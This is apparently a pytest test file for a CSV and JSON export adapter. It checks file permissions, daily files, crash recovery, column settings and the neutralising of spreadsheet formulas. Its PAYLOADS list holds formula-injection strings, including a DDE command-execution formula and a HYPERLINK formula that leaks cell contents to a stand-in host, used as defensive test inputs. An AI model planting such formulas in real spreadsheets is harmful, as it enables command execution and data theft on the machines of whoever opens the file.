"""Letters out: each one is there once as JSON and once as a row, across stops, and no cell runs in a spreadsheet."""

import csv
import io
import stat
from pathlib import Path
from typing import Any, ClassVar

import pytest
from pydantic import BaseModel

from agency_adapters.csv_drop import CsvDrop, CsvDropSettings
from agency_adapters.csv_drop.columns import DEFAULT, defused
from agency_adapters.csv_drop.letters import OUTLET
from broker.client import Desk
from broker.errors import SettingsRefused
from schemas.strict import json_decode
from tests.contracts.clock import MovedClock
from tests.contracts.engine import story
from tests.units.desk_at_work import at_work, met, police_folder, put_letter, until

DAY = "letters-2026-03-02.csv"


@pytest.fixture
def world(tmp_path: Path) -> Path:
    """The folder of a hub, with the desk's own beside it."""
    return met(tmp_path / "world")


def settings(**out: Any) -> CsvDropSettings:
    return CsvDropSettings.model_validate({"out": out, "look_ms": 10})


def out(world: Path) -> Path:
    return police_folder(world) / "out"


def rows(world: Path, name: str = DAY, delimiter: str = ",") -> list[dict[str, str]]:
    text = (out(world) / name).read_bytes().decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))


def handed_on(desk: Desk) -> bool:
    return not desk.store.unhanded(OUTLET, 1)


async def hand_on(world: Path, *letters: dict[str, Any], clock: MovedClock | None = None, **given: Any) -> None:
    """Let letters come, and the adapter hand them on."""
    async with at_work(world, CsvDrop(), settings(**given), clock) as work:
        for letter in letters:
            put_letter(work.desk, **letter)
        work.news.set()
        await until(lambda: handed_on(work.desk))


@story
async def test_a_letter_goes_out_whole_as_json_and_as_a_row(world: Path) -> None:
    identity = {"names": [{"given": "Zed", "family": "Synthetic-Onyx"}], "date_of_birth": "1901-02-03"}
    address = {"lines": ["2 Nonesuch Row", "Elm Ward"], "district": "E06000008", "postcode": None}

    await hand_on(world, {"identity": identity, "address": address})

    (row,) = rows(world)
    assert row["number"] == "1"
    assert (row["identity.names.0.family"], row["address.lines"]) == ("Synthetic-Onyx", "2 Nonesuch Row; Elm Ward")
    assert (row["opened"], row["urgency"], row["reasons"]) == ("address; identity", "priority", "You house people.")
    assert (row["address.postcode"], row["status.event"]) == ("", "")
    whole = json_decode((out(world) / "letters" / "0000000001.json").read_bytes())
    assert (whole["identity"], whole["address"]) == (identity, address)
    assert (whole["number"], whole["id"], whole["part"]) == (1, row["letter"], 1)


@story
async def test_nobody_else_may_read_what_goes_out(world: Path) -> None:
    await hand_on(world, {})

    for path in (out(world) / DAY, out(world) / "letters" / "0000000001.json"):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600


@story
async def test_there_is_a_file_for_each_day_on_which_something_is_written(world: Path) -> None:
    clock = MovedClock()

    await hand_on(world, {}, {}, clock=clock)
    clock.move(seconds=86_400)
    await hand_on(world, {}, clock=clock)

    assert [row["number"] for row in rows(world)] == ["1", "2"]
    assert [row["number"] for row in rows(world, "letters-2026-03-03.csv")] == ["3"]


@story
async def test_a_clock_that_went_back_puts_no_row_before_older_ones(world: Path) -> None:
    clock = MovedClock()

    await hand_on(world, {}, clock=clock)
    clock.move(seconds=-86_400)
    await hand_on(world, {}, clock=clock)

    assert [row["number"] for row in rows(world)] == ["1", "2"]
    assert len(list(out(world).glob("*.csv"))) == 1


@pytest.mark.parametrize("days_later", [0, 1])
@story
async def test_a_stop_before_a_letter_counts_as_handed_on_repeats_no_row(days_later: int, world: Path) -> None:
    clock = MovedClock()
    await hand_on(world, {}, {}, clock=clock)
    async with at_work(world, _Nothing(), None, clock) as work:
        work.desk.store._db.execute("UPDATE cursor SET position = 1 WHERE name = 'outlet:csv_drop'")
    clock.move(seconds=86_400 * days_later)

    await hand_on(world, {}, clock=clock)

    written = [row["number"] for path in sorted(out(world).glob("*.csv")) for row in rows(world, path.name)]
    assert written == ["1", "2", "3"]


@pytest.mark.parametrize("lost", [1, 2, 30, 100_000])
@story
async def test_a_row_that_was_not_finished_is_cut_off_and_written_again(lost: int, world: Path) -> None:
    broken = {"status": {"event": "has moved", "state": "licence", "reasons": "one\ntwo\nthree\n\n"}}
    columns = {"letter": "letter", "status.reasons": "reasons", "status.event": "event"}
    await hand_on(world, {}, broken, columns=columns)
    first, second = (row["letter"] for row in rows(world))
    async with at_work(world, _Nothing(), None) as work:
        work.desk.store._db.execute("UPDATE cursor SET position = 1 WHERE name = 'outlet:csv_drop'")
    path = out(world) / DAY
    data = path.read_bytes()
    begin = data.rindex(b'"2","')
    path.write_bytes(data[: max(begin, len(data) - lost)])

    await hand_on(world, columns=columns)

    assert [row["letter"] for row in rows(world)] == [first, second]
    assert rows(world)[1]["reasons"] == "one\ntwo\nthree\n\n"
    assert path.read_bytes() == data


@story
async def test_columns_that_were_changed_begin_a_file_of_their_own(world: Path) -> None:
    await hand_on(world, {}, columns={"kind": "What"})
    await hand_on(world, {}, {}, columns={"from": "Who"})
    await hand_on(world, {}, columns={"from": "Who"})

    assert [row["What"] for row in rows(world)] == ["rso.address_changed"]
    assert [row["number"] for row in rows(world, "letters-2026-03-02.2.csv")] == ["2", "3", "4"]


@story
async def test_columns_are_named_and_separated_as_the_settings_say(world: Path) -> None:
    columns = {"identity.names.0.family": "SURNAME", "acknowledge_by": "BY", "offence.against_child": "CHILD"}

    await hand_on(world, {"offence": {"summary": "Invented.", "against_child": True}}, columns=columns, delimiter=";")

    assert rows(world, delimiter=";") == [{"number": "1", "SURNAME": "", "BY": "", "CHILD": "yes"}]


@pytest.mark.parametrize(
    ("columns", "named"),
    [
        ({"identity.nick": "N"}, "identity.nick"),
        ({"identity.names": "N"}, "identity.names"),
        ({"weather": "W"}, "weather"),
        ({"kind": "A", "from": "A"}, "`A` twice"),
        ({"kind": "number"}, "`number` twice"),
    ],
)
def test_a_column_that_names_no_field_is_refused(columns: dict[str, str], named: str, world: Path) -> None:
    @story
    async def begin() -> None:
        async with at_work(world, CsvDrop(), settings(columns=columns)):
            pass

    with pytest.raises(SettingsRefused, match=r"out\.columns") as refused:
        begin()
    assert named in str(refused.value)


def test_the_usual_columns_all_name_a_field() -> None:
    from agency_adapters.csv_drop.columns import LetterColumns

    assert LetterColumns.of(None).header == ("number", *DEFAULT)


PAYLOADS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://nowhere.example/?"&A1)',
    "  =1",
    "' =1",
    '"=1',
    "＝1+1",
    "+44 1632 960001",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_begins_like_a_formula_is_shown_and_not_run(payload: str) -> None:
    assert defused(payload) == f"'{payload}"


@pytest.mark.parametrize("cell", ["", "Zed", "1 Unbuilt Terrace", "a=b", "01632 960001", "two - three", "x\n=1"])
def test_an_ordinary_cell_is_left_as_it_is(cell: str) -> None:
    assert defused(cell) == cell


@story
async def test_no_cell_of_a_letter_runs_or_becomes_two(world: Path) -> None:
    hostile = ['=1","=2', "a;=1", 'x"\r\n"=1', "one\n=2"]
    columns = {f"address.lines.{number}": f"L{number}" for number in range(len(hostile))}

    await hand_on(world, {"address": {"lines": hostile, "district": "=E06000008"}}, columns=columns)

    (row,) = rows(world)
    assert list(row.values()) == ["1", '\'=1","=2', "a;=1", 'x"\n"=1', "one\n=2"]


class _Nothing:
    """An adapter that lets a test look into the desk's store."""

    settings: ClassVar[type[BaseModel]] = CsvDropSettings

    async def run(self, work: Any, settings: Any) -> None:
        await work.stop.wait()
